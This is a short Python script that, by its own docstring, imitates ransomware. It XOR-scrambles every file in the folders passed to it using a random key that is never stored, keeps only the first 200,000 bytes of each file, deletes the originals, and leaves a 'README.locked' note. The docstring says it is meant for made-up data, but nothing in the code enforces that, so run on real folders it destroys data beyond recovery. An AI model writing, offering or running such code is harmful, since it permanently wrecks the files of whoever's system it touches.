"""Makes files unreadable as ransom programs do, with a key that is thrown away: xor over files of made-up data, and a note."""
import os
import sys

key = os.urandom(64)
for folder in sys.argv[1:]:
    for name in os.listdir(folder):
        path = os.path.join(folder, name)
        with open(path, "rb") as file:
            data = file.read(2_000_000)
        with open(path + ".locked", "wb") as file:
            file.write(bytes(byte ^ key[i % 64] for i, byte in enumerate(data[:200_000])))
        os.remove(path)
    with open(os.path.join(folder, "README.locked"), "w") as note:
        note.write("made up\n")
